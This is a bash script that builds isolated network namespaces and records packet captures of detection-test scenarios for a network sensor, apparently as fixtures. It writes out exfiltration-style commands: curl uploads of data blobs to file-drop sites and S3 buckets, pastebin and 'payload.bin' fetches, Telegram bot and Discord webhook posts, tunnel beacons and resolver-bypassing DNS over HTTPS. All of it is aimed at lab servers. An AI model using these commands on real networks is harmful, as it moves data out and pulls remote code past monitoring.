#!/bin/bash
# Scenario captures for issue 11 (detections, not list look-ups), made by real programs
# (curl, python3 requests, pip, apt) in private network namespaces, recorded with tcpdump
# on the client side and moved in time with editcap -t.  See captures/README.md,
# section "Scenario captures (issue 11)", and scenarios.json beside this script.
#   usage:  sudo captures/scenarios/make-scenarios.sh        (about 3.5 minutes)
#   env:    OUT=DIR   write the pcaps elsewhere (default: this directory)
#           FULL=1    do not cut the bulk of the upload captures (see trim-bulk below)
#           ONLY="sc-ci-s3 sc-bot-api ..."  make only these captures
#           KEEP_TMP=1  keep the work directory (raw captures, server logs)
# Needs: iproute2, ethtool, tcpdump, editcap/mergecap/capinfos/tshark (wireshark-common,
# tshark), curl, Debian's python3 with python3-requests and python3-pip, apt.
# Topology (nothing leaves these namespaces; every name is removed on exit):
#   ctsc-ws11  10.20.0.11/24  02:20:00:00:00:11  workstation   \
#   ctsc-ws12  10.20.0.12/24  02:20:00:00:00:12  workstation    > veth -> bridge br0 in ctsc-srv
#   ctsc-ci    10.99.9.5/24   02:99:09:00:00:05  CI server     /
#   ctsc-srv   br0 02:20:00:00:00:01: gateways 10.20.0.1 and 10.99.9.1, resolver 10.20.0.53
#              (helpers/dns_server.py: every name -> A 198.18.0.10, AAAA 2001:db8::10),
#              "internet" web server 198.18.0.10 and an address in a real AWS range,
#              3.5.140.10 (3.5.140.0/22: AMAZON/S3/EC2 in ip-ranges.json); lab_web.py on
#              80 (HTTP) and 443 (TLS, lab certificate) answers on all of them.
set -euo pipefail
HERE=$(cd "$(dirname "$0")" && pwd)
H=$HERE/../helpers
OUT=${OUT:-$HERE}
PY=/usr/bin/python3        # Debian's python3: requests 2.28.1, pip 23.0.1
ONLY=${ONLY:-}
TMP=$(mktemp -d /tmp/ctsc.XXXXXX)
chmod 755 "$TMP"
NSS=(ctsc-ws11 ctsc-ws12 ctsc-ci ctsc-srv)
PIDS=()
declare -A CAP_PID=()

UA_CHROME="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
UA_AWSCLI="aws-cli/2.15.0 Python/3.11.6 Linux/6.1 exe/x86_64"

log() { echo "== $*" >&2; }

cleanup() {
  set +e
  for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done
  for p in "${PIDS[@]}"; do timeout 5 tail --pid="$p" -f /dev/null 2>/dev/null; done
  for ns in "${NSS[@]}"; do ip netns del "$ns" 2>/dev/null; rm -rf "/etc/netns/$ns"; done
  rmdir /etc/netns 2>/dev/null
  if [ -n "${KEEP_TMP:-}" ]; then echo "kept $TMP" >&2; else rm -rf "$TMP"; fi
}
trap cleanup EXIT
trap 'exit 130' INT TERM

want() { [ -z "$ONLY" ] || [[ " $ONLY " == *" $1 "* ]]; }
# run a client command in a namespace, bounded; failures are reported, not fatal
# (pip and apt are expected to fail after their requests: the lab serves no packages)
run() { # ns timeout cmd...
  local ns=$1 t=$2; shift 2
  # clean environment: no proxy, pip or curl settings of the machine leak in
  ip netns exec "$ns" timeout "$t" env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin HOME="$TMP" \
      LANG=C.UTF-8 PIP_CONFIG_FILE=/dev/null CURL_HOME="$TMP" "$@" >>"$TMP/clients.log" 2>&1 \
    || echo "   [$ns] exit $?: ${*:1:6}" >&2
}
pyrun() { # ns timeout python-source
  run "$1" "$2" "$PY" -c "$3"
}

############################################################################ topology
for ns in "${NSS[@]}"; do ip netns del "$ns" 2>/dev/null || true; done
for ns in "${NSS[@]}"; do
  ip netns add "$ns"
  # no IPv6 on the links (no RS/ND/MLD noise); lo keeps ::1 so [::] sockets work
  ip netns exec "$ns" sysctl -qw net.ipv6.conf.default.disable_ipv6=1
  ip -n "$ns" link set lo up
done
S=ctsc-srv
MAC_GW=02:20:00:00:00:01
ip -n $S link add br0 address $MAC_GW type bridge stp_state 0 mcast_snooping 0
ip -n $S link set br0 up
# 1.1.1.1: a public DoH/DoT resolver's address, for sc-hidden-dns (issue 14)
for a in 10.20.0.1/24 10.99.9.1/24 10.20.0.53/32 198.18.0.10/32 3.5.140.10/32 1.1.1.1/32; do
  ip -n $S addr add $a dev br0
done

add_host() { # ns port-name address/prefix mac gateway
  local ns=$1 pn=$2 addr=$3 mac=$4 gw=$5
  ip link add vc netns "$ns" address "$mac" type veth peer name "$pn" netns $S
  ip -n "$ns" addr add "$addr" dev vc
  ip -n "$ns" link set vc up
  ip -n $S link set "$pn" master br0 up
  ip -n "$ns" route add default via "$gw" dev vc
  ip -n "$ns" neigh replace "$gw" lladdr $MAC_GW dev vc nud permanent
  [ "$gw" = 10.20.0.1 ] && ip -n "$ns" neigh replace 10.20.0.53 lladdr $MAC_GW dev vc nud permanent
  ip -n $S neigh replace "${addr%/*}" lladdr "$mac" dev br0 nud permanent
  ip netns exec $S bridge fdb replace "$mac" dev "$pn" master static
  # real 1500-byte frames with correct checksums in the capture (no TSO/GSO super-packets)
  ip netns exec "$ns" ethtool -K vc tso off gso off gro off tx off rx off >/dev/null 2>&1 || true
  ip netns exec $S ethtool -K "$pn" tso off gso off gro off tx off rx off >/dev/null 2>&1 || true
  mkdir -p "/etc/netns/$ns"
  printf 'nameserver 10.20.0.53\noptions timeout:2 attempts:1\n' >"/etc/netns/$ns/resolv.conf"
  printf '127.0.0.1 localhost\n::1 localhost\n' >"/etc/netns/$ns/hosts"
}
add_host ctsc-ws11 p11 10.20.0.11/24 02:20:00:00:00:11 10.20.0.1
add_host ctsc-ws12 p12 10.20.0.12/24 02:20:00:00:00:12 10.20.0.1
add_host ctsc-ci   pci 10.99.9.5/24  02:99:09:00:00:05 10.99.9.1
ip netns exec $S ethtool -K br0 tso off gso off gro off tx off >/dev/null 2>&1 || true

############################################################################ servers
bg_srv() { ip netns exec $S timeout 900 "$@" >>"$TMP/servers.log" 2>&1 & PIDS+=($!); }
wait_listen() { # proto(t|u) port
  for _ in $(seq 1 50); do
    ip netns exec $S ss -Hln"$1" "sport = :$2" | grep -q . && return 0
    sleep 0.1
  done
  echo "server on $1/$2 did not come up" >&2; return 1
}
bg_srv "$PY" "$H/dns_server.py" 10.20.0.53 53 198.18.0.10 2001:db8::10
bg_srv "$PY" "$HERE/lab_web.py" 80
bg_srv "$PY" "$HERE/lab_web.py" 443 "$H/lab-cert.pem" "$H/lab-key.pem"
# 853: DNS over TLS's port (sc-hidden-dns; only the TLS handshake matters)
bg_srv "$PY" "$HERE/lab_web.py" 853 "$H/lab-cert.pem" "$H/lab-key.pem"
wait_listen u 53; wait_listen t 53; wait_listen t 80; wait_listen t 443; wait_listen t 853

# deterministic upload bodies (seeded pseudo-random bytes, incompressible)
mkbody() { "$PY" -c "import random,sys; sys.stdout.buffer.write(random.Random($2).randbytes($3))" >"$TMP/$1"; }
mkbody x.bin 1106 6000000            # 6 MB, sc-filedrop-upload
mkbody dump.zip 1108 8000000         # 8 MB, sc-night-upload-s3
mkbody build.tar.gz 1109 900000      # 0.9 MB, sc-ci-s3 and sc-unauthorised-storage
cp "$TMP/build.tar.gz" "$TMP/q4-report.zip"
chmod 644 "$TMP"/*.bin "$TMP"/*.zip "$TMP"/*.gz

############################################################################ capture helpers
cap_start() { # key ns
  # -B: a 64 MiB kernel buffer, so that a 1 Gbit/s+ veth upload burst loses nothing
  ip netns exec "$2" timeout 400 tcpdump -p -Z root -U -B 65536 -s 0 -i vc -w "$TMP/$1.raw.pcap" \
    >"$TMP/$1.tcpdump.log" 2>&1 &
  CAP_PID[$1]=$!; PIDS+=($!)
  for _ in $(seq 1 150); do
    grep -q 'listening on' "$TMP/$1.tcpdump.log" 2>/dev/null && { sleep 0.5; return 0; }
    sleep 0.1
  done
  echo "tcpdump for $1 did not start" >&2; return 1
}
cap_stop() { # key
  sleep 1
  kill -TERM "${CAP_PID[$1]}" 2>/dev/null || true
  timeout 10 tail --pid="${CAP_PID[$1]}" -f /dev/null || true
  if grep -Eq '^[1-9][0-9]* packets? dropped by kernel' "$TMP/$1.tcpdump.log"; then
    echo "tcpdump for $1 dropped packets:" >&2; cat "$TMP/$1.tcpdump.log" >&2; exit 1
  fi
}
# raw capture -> (spread / trim) -> editcap -t so the first packet is at START (UTC)
finish() { # name start-utc [trim]
  local name=$1 start=$2 trim=${3:-} f="$TMP/$1.raw.pcap" d
  if [ -n "$trim" ] && [ -z "${FULL:-}" ]; then
    "$PY" "$HERE/pcap_tool.py" trim-bulk "$f" "$TMP/$name.trim.pcap" 4096 200
    f="$TMP/$name.trim.pcap"
  fi
  d=$("$PY" "$HERE/pcap_tool.py" delta "$f" "$start")
  editcap -F pcap -t "$d" "$f" "$OUT/$name.pcap"
  chmod 644 "$OUT/$name.pcap"
  log "wrote $name.pcap (first packet $(date -u -d @"$("$PY" "$HERE/pcap_tool.py" first "$OUT/$name.pcap")" +%FT%T.%6NZ), $(stat -c %s "$OUT/$name.pcap") bytes)"
}

sleep 1   # let interface bring-up settle before the first recording

############################################################################ 2. tunnel at night (ws12, runs 2 minutes: in the background while ws11 and CI work)
if want sc-tunnel-night; then
  log "sc-tunnel-night (background, 2 minutes)"
  cap_start sc-tunnel-night ctsc-ws12
  (
    for i in 1 2 3 4; do
      run ctsc-ws12 20 curl -sk -o /dev/null -A "$UA_CHROME" https://quiet-river-1234.trycloudflare.com/
      [ $i -lt 4 ] && sleep 40
    done
  ) & TUNNEL_JOB=$!; PIDS+=($TUNNEL_JOB)
fi

############################################################################ 1. script fetches a paste (ws11)
if want sc-script-paste; then
  log "sc-script-paste"
  cap_start sc-script-paste ctsc-ws11
  run ctsc-ws11 20 curl -s -o /dev/null http://pastebin.com/raw/AbCd1234
  sleep 1
  pyrun ctsc-ws11 20 'import requests, urllib3; urllib3.disable_warnings(); requests.get("https://pastebin.com/raw/Xy", verify=False, timeout=10)'
  cap_stop sc-script-paste
  finish sc-script-paste 2026-12-01T10:00:00
fi

############################################################################ 3. file-drop uploads (ws11)
if want sc-filedrop-upload; then
  log "sc-filedrop-upload"
  cap_start sc-filedrop-upload ctsc-ws11
  run ctsc-ws11 60 curl -s -o /dev/null --upload-file "$TMP/x.bin" http://transfer.sh/x.bin
  sleep 1
  run ctsc-ws11 60 curl -sk -o /dev/null --upload-file "$TMP/x.bin" https://oshi.at/
  cap_stop sc-filedrop-upload
  finish sc-filedrop-upload 2026-12-01T14:00:00 trim
fi

############################################################################ 5. console burst (ws11)
if want sc-console-burst; then
  log "sc-console-burst"
  cap_start sc-console-burst ctsc-ws11
  n=0
  for u in https://signin.aws.amazon.com/signin https://portal.azure.com/ \
           https://console.cloud.google.com/ https://dashboard.heroku.com/new \
           https://app.netlify.com/signup https://dashboard.ngrok.com/signup \
           https://cloud.digitalocean.com/registrations/new; do
    [ $n -gt 0 ] && sleep 3
    run ctsc-ws11 20 curl -sk -o /dev/null -A "$UA_CHROME" "$u"
    n=$((n + 1))
  done
  cap_stop sc-console-burst
  finish sc-console-burst 2026-12-01T09:00:00
fi

############################################################################ 7. script to a provider address (ws11)
if want sc-script-provider-ip; then
  log "sc-script-provider-ip"
  cap_start sc-script-provider-ip ctsc-ws11
  pyrun ctsc-ws11 20 'import requests; requests.get("http://3.5.140.10/payload.bin", timeout=10)'
  sleep 1
  run ctsc-ws11 20 curl -s -o /dev/null http://3.5.140.10/x
  cap_stop sc-script-provider-ip
  finish sc-script-provider-ip 2026-12-01T13:00:00
fi

############################################################################ 11. flows without a record to a provider address (ws11, issue 14)
if want sc-udp-provider; then
  log "sc-udp-provider"
  cap_start sc-udp-provider ctsc-ws11
  # An NTP client request, a QUIC-looking datagram the sensor cannot read, and a TCP
  # connection attempt to a closed port: no DNS/TLS/HTTP record on any of them.
  pyrun ctsc-ws11 20 'import socket, os, time
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(bytes([0x23]) + bytes(47), ("3.5.140.10", 123))
time.sleep(0.2)
q = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
q.sendto(bytes([0xc3, 0, 0, 0, 1]) + os.urandom(1195), ("3.5.140.10", 443))
time.sleep(0.2)
t = socket.socket()
t.settimeout(3)
try:
    t.connect(("3.5.140.10", 22))
except OSError:
    pass'
  cap_stop sc-udp-provider
  finish sc-udp-provider 2026-12-01T11:00:00
fi

############################################################################ 12. hidden DNS: the local resolver, then DoH and DoT (ws12, issue 14)
if want sc-hidden-dns; then
  log "sc-hidden-dns"
  cap_start sc-hidden-dns ctsc-ws12
  run ctsc-ws12 10 dig +time=2 +tries=1 A www.example.org
  sleep 1
  # DoH by name (resolved through the local resolver: its bootstrap), DoH by address (no
  # SNI), DoT by address with the resolver's name
  run ctsc-ws12 20 curl -sk -o /dev/null -H 'accept: application/dns-message' \
      'https://cloudflare-dns.com/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB'
  sleep 1
  run ctsc-ws12 20 curl -sk -o /dev/null -H 'accept: application/dns-message' \
      'https://1.1.1.1/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB'
  sleep 1
  run ctsc-ws12 20 sh -c 'openssl s_client -connect 1.1.1.1:853 -servername one.one.one.one </dev/null'
  cap_stop sc-hidden-dns
  finish sc-hidden-dns 2026-12-01T10:30:00
fi

############################################################################ 9. workstation uploads to the CI bucket (ws11)
if want sc-unauthorised-storage; then
  log "sc-unauthorised-storage"
  cap_start sc-unauthorised-storage ctsc-ws11
  run ctsc-ws11 30 curl -sk -o /dev/null -A "$UA_CHROME" --upload-file "$TMP/q4-report.zip" https://ci-artifacts.s3.amazonaws.com/
  cap_stop sc-unauthorised-storage
  finish sc-unauthorised-storage 2026-12-01T15:00:00 trim
fi

############################################################################ 8. CI pushes to its bucket every 10 minutes (ci)
if want sc-ci-s3; then
  log "sc-ci-s3"
  cap_start sc-ci-s3 ctsc-ci
  ANCH=()
  for i in 1 2 3 4 5 6; do
    [ $i -gt 1 ] && sleep 2
    ANCH+=("$(date +%s.%N)")
    run ctsc-ci 30 curl -sk -o /dev/null -A "$UA_AWSCLI" --upload-file "$TMP/build.tar.gz" \
        "https://ci-artifacts.s3.amazonaws.com/builds/build-100$i.tar.gz"
  done
  cap_stop sc-ci-s3
  # the 6 uploads ran 2 s apart; put them 600 s apart (timing inside each one unchanged)
  "$PY" "$HERE/pcap_tool.py" spread "$TMP/sc-ci-s3.raw.pcap" "$TMP/sc-ci-s3.spread.pcap" 600 "${ANCH[@]}"
  mv "$TMP/sc-ci-s3.spread.pcap" "$TMP/sc-ci-s3.raw.pcap"
  finish sc-ci-s3 2026-12-01T00:00:00 trim
fi

############################################################################ wait for the tunnel capture
if want sc-tunnel-night; then
  timeout 200 tail --pid="$TUNNEL_JOB" -f /dev/null || true
  cap_stop sc-tunnel-night
  finish sc-tunnel-night 2026-12-02T02:10:00
fi

############################################################################ 4. bot API and webhook (ws12, 45 s)
if want sc-bot-api; then
  log "sc-bot-api (45 s)"
  cap_start sc-bot-api ctsc-ws12
  pyrun ctsc-ws12 90 '
import time, requests, urllib3
urllib3.disable_warnings()
for i in range(3):
    if i:
        time.sleep(20)
    requests.post("https://api.telegram.org/bot123456:ABC/sendMessage",
                  json={"chat_id": 4242, "text": "report %d" % (i + 1)}, verify=False, timeout=10)
time.sleep(2)
requests.post("https://discord.com/api/webhooks/1/abc", json={"content": "done"},
              verify=False, timeout=10)
'
  cap_stop sc-bot-api
  finish sc-bot-api 2026-12-01T11:00:00
fi

############################################################################ 6. weekend night upload to S3 (ws12)
if want sc-night-upload-s3; then
  log "sc-night-upload-s3"
  cap_start sc-night-upload-s3 ctsc-ws12
  run ctsc-ws12 60 curl -sk -o /dev/null -A "$UA_CHROME" --upload-file "$TMP/dump.zip" \
      https://backup-7731.s3.amazonaws.com/dump.zip
  cap_stop sc-night-upload-s3
  finish sc-night-upload-s3 2026-12-05T01:30:00 trim
fi

############################################################################ 10. benign office traffic (ws11 + ws12)
if want sc-benign-office; then
  log "sc-benign-office"
  mkdir -p "$TMP/apt/lists/partial" "$TMP/apt/cache/archives/partial" "$TMP/apt/parts" "$TMP/apt/srcparts" "$TMP/pipdl"
  echo 'deb http://deb.debian.org/debian bookworm main' >"$TMP/apt/sources.list"
  cat >"$TMP/apt/apt.conf" <<EOF
Dir::Etc::Parts "$TMP/apt/parts";
Dir::Etc::SourceList "$TMP/apt/sources.list";
Dir::Etc::SourceParts "$TMP/apt/srcparts";
Dir::State::Lists "$TMP/apt/lists";
Dir::Cache "$TMP/apt/cache";
Debug::NoLocking "true";
APT::Sandbox::User "root";
Acquire::Retries "0";
Acquire::Languages "none";
Acquire::http::Timeout "5";
EOF
  cap_start sc-benign-office-ws11 ctsc-ws11
  cap_start sc-benign-office-ws12 ctsc-ws12
  browse() { # ns url...
    local ns=$1 u; shift
    for u in "$@"; do run "$ns" 20 curl -sk -o /dev/null -A "$UA_CHROME" "$u"; sleep 0.5; done
  }
  browse ctsc-ws11 https://youtube.com/ https://www.google.com/ \
      https://googleads.g.doubleclick.net/pagead/id \
      "https://contoso.sharepoint.com/sites/team/Shared%20Documents/" \
      https://drive.google.com/drive/my-drive https://outlook.office365.com/mail/
  browse ctsc-ws12 https://www.linkedin.com/feed/ https://t.co/AbC123xyz https://bit.ly/3AbCdEf \
      https://github.com/contoso/app https://www.dropbox.com/home \
      https://contoso.atlassian.net/jira/software/projects/APP/boards/1 \
      https://contoso.atlassian.net/wiki/spaces/ENG https://www.google.com/ \
      https://outlook.office365.com/mail/
  # a developer's real pip 23.0.1 (index page on pypi.org, then the wheel on files.pythonhosted.org)
  run ctsc-ws11 40 "$PY" -m pip download --isolated --no-deps --no-cache-dir \
      --disable-pip-version-check --retries 0 --timeout 5 -d "$TMP/pipdl" \
      --index-url https://pypi.org/simple --trusted-host pypi.org \
      --trusted-host files.pythonhosted.org requests
  sleep 0.5
  # real apt 2.6.1 (UA "Debian APT-HTTP/1.3 (2.6.1)") over plain http, isolated from the host's apt
  run ctsc-ws12 40 env APT_CONFIG="$TMP/apt/apt.conf" apt-get -q update
  cap_stop sc-benign-office-ws11
  cap_stop sc-benign-office-ws12
  mergecap -F pcap -w "$TMP/sc-benign-office.raw.pcap" \
      "$TMP/sc-benign-office-ws11.raw.pcap" "$TMP/sc-benign-office-ws12.raw.pcap"
  finish sc-benign-office 2026-12-01T09:30:00
fi

############################################################################ check with tshark
log "check: names and user agents seen by tshark"
"$PY" "$HERE/check.py" "$HERE/scenarios.json" "$OUT" ${ONLY:+$ONLY}
log "done; captures in $OUT"
